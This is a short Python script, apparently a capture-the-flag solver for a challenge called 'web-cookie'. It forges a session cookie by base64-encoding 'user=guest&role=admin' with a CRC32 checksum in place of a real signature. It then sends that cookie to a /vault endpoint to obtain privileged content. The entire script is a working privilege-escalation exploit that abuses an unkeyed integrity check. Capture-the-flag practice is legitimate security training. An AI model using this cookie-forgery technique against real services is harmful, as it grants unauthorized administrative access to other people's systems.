#!/usr/bin/env python3
"""Solves web-cookie: solve.py HOST PORT"""
import base64, sys, urllib.request, zlib

host, port = sys.argv[1], sys.argv[2]
text = b'user=guest&role=admin'
session = f'{base64.urlsafe_b64encode(text).decode().rstrip("=")}.{zlib.crc32(text):08x}'
request = urllib.request.Request(f'http://{host}:{port}/vault', headers={'Cookie': f'session={session}'})
print(urllib.request.urlopen(request, timeout=10).read().decode().strip())
